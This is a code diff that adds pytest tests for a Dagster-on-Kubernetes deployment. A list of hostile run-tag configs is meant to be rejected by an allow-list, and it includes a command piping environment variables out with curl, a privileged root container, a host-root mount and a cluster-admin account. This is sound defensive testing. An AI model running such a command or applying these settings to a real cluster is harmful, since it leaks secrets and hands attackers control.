@@ -5,12 +5,14 @@ No image is built here and no cluster is asked.
 
 from __future__ import annotations
 
+import json
 import re
 from collections.abc import Iterator
 from importlib.metadata import entry_points
 from pathlib import Path
 from typing import Any
 
+import dagster as dg
 import kubernetes.client
 import kubernetes_validate
 import pytest
@@ -142,3 +144,110 @@ def test_the_image_is_made_of_what_the_build_may_see() -> None:
     assert sources == seen
     assert all((ROOT / source).exists() for source in sources)
     assert re.search(r"^USER 10001", dockerfile, re.MULTILINE)
+
+
+HOSTILE = [
+    {"container_config": {"image": "theirs/image"}},
+    {"container_config": {"command": ["sh", "-c", "env | curl -d @- theirs"]}},
+    {"container_config": {"args": ["theirs"]}},
+    {"container_config": {"env": [{"name": "DATABASE_URL", "value": "postgresql://theirs"}]}},
+    {"container_config": {"envFrom": [{"secretRef": {"name": "another-secret"}}]}},
+    {"container_config": {"securityContext": {"privileged": True, "runAsUser": 0}}},
+    {"container_config": {"volumeMounts": [{"name": "host", "mountPath": "/host"}]}},
+    {"container_config": {"lifecycle": {"postStart": {"exec": {"command": ["theirs"]}}}}},
+    {"pod_spec_config": {"serviceAccountName": "cluster-admin"}},
+    {"pod_spec_config": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}},
+    {"pod_spec_config": {"containers": [{"name": "theirs", "image": "theirs/image"}]}},
+    {"pod_spec_config": {"init_containers": [{"name": "theirs", "image": "theirs/image"}]}},
+    {"pod_spec_config": {"hostNetwork": True}},
+    {"pod_spec_config": {"nodeSelector": {"zone": "theirs"}}},
+    {"pod_template_spec_metadata": {"annotations": {"iam.amazonaws.com/role": "admin"}}},
+    {"job_metadata": {"namespace": "kube-system"}},
+    {"job_spec_config": {"parallelism": 500}},
+]
+
+
+def launched(tags: dict[str, str]) -> dict[str, Any]:
+    """The Job that dagster-k8s makes of a run with these tags on the instance of the manifests."""
+    named = {"job_image": "registry.example.com/seedtest:1", "job_namespace": "seedtest"}
+    launcher = K8sRunLauncher(
+        **(INSTANCE["run_launcher"]["config"] | named),
+        load_incluster_config=False,
+        k8s_client_batch_api=kubernetes.client.BatchV1Api(),
+        k8s_client_core_api=kubernetes.client.CoreV1Api(),
+    )
+    run = dg.DagsterRun(job_name="sync_attempts", tags=tags)
+    context = launcher.get_container_context_for_run(run)
+    job = construct_dagster_k8s_job(
+        context.get_k8s_job_config(None, launcher), ["dagster", "api", "execute_run"], "run", context.run_k8s_config
+    )
+    made: dict[str, Any] = kubernetes.client.ApiClient().sanitize_for_serialization(job)
+    return made
+
+
+@pytest.fixture
+def no_cluster(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("dagster_k8s.launcher.load_kubernetes_config", lambda **_: None)
+
+
+@pytest.mark.usefixtures("no_cluster")
+@pytest.mark.parametrize("config", HOSTILE, ids=str)
+def test_a_tag_of_a_run_changes_nothing_of_its_pod_but_its_size(config: dict[str, Any]) -> None:
+    with pytest.raises(Exception, match=r"violated the allowed list: (container|pod|job)_"):
+        launched({"dagster-k8s/config": json.dumps(config)})
+
+
+@pytest.mark.usefixtures("no_cluster")
+def test_a_tag_of_a_run_may_change_the_size_of_its_pod() -> None:
+    size = {"requests": {"cpu": "2", "memory": "8Gi"}, "limits": {"cpu": "4", "memory": "16Gi"}}
+    job = launched({"dagster-k8s/config": json.dumps({"container_config": {"resources": size}})})
+    kubernetes_validate.validate(job, SERVER_VERSION, strict=True)
+    pod = job["spec"]["template"]["spec"]
+    (container,) = pod["containers"]
+    assert container["resources"] == size
+    assert_least_rights(pod)
+    assert container["image"] == "registry.example.com/seedtest:1"
+
+
+def test_the_proxy_that_logs_people_in_is_a_valid_sidecar() -> None:
+    """kustomize merges the patches by the names of containers and ports."""
+    folder = KUBERNETES / "oidc"
+    patches = yaml.safe_load((folder / "kustomization.yaml").read_text())["patches"]
+    base = {(m["kind"], m["metadata"]["name"]): m for m in manifests()}
+    for patch in (yaml.safe_load((folder / patch["path"]).read_text()) for patch in patches):
+        merged = base[patch["kind"], patch["metadata"]["name"]]
+        if patch["kind"] == "Deployment":
+            own, added = (m["spec"]["template"]["spec"]["containers"] for m in (merged, patch))
+            assert {c["name"] for c in own}.isdisjoint(c["name"] for c in added)
+            own += added
+        elif patch["kind"] == "Service":
+            assert merged["spec"]["ports"][0].keys() == patch["spec"]["ports"][0].keys()
+            merged["spec"]["ports"] = patch["spec"]["ports"]
+        else:
+            merged["spec"] |= patch["spec"]
+        kubernetes_validate.validate(merged, SERVER_VERSION, strict=True)
+        if patch["kind"] == "Deployment":
+            upstream = "--upstream=http://127.0.0.1:3000"
+            assert upstream in added[0]["args"], "a person's name is trusted inside the pod only"
+
+
+def test_the_code_location_answers_to_the_platforms_pods_only() -> None:
+    (policy,) = (m for m in manifests() if m["kind"] == "NetworkPolicy" and m["metadata"]["name"] == "seedtest-code")
+    (rule,) = policy["spec"]["ingress"]
+    allowed = rule["from"][0]["podSelector"]["matchExpressions"][0]["values"]
+    assert set(allowed) == {"seedtest-webserver", "seedtest-daemon"}
+    labels = {name: m["metadata"]["labels"]["app"] for name, m in templates().items()}
+    assert set(allowed) <= set(labels.values())
+    assert policy["spec"]["podSelector"]["matchLabels"]["app"] in labels.values()
+
+
+def templates() -> dict[str, dict[str, Any]]:
+    found = {m["metadata"]["name"]: m for m in manifests() if m["kind"] in ("Deployment", "Job")}
+    return {name: manifest["spec"]["template"] for name, manifest in found.items()}
+
+
+def test_probes_use_a_name_that_the_guard_knows() -> None:
+    """The kubelet asks by the pod's address, which is none of the UI's names."""
+    (container,) = pods()["seedtest-webserver"]["containers"]
+    for probe in ("readinessProbe", "startupProbe"):
+        assert container[probe]["httpGet"]["httpHeaders"] == [{"name": "Host", "value": "localhost"}]
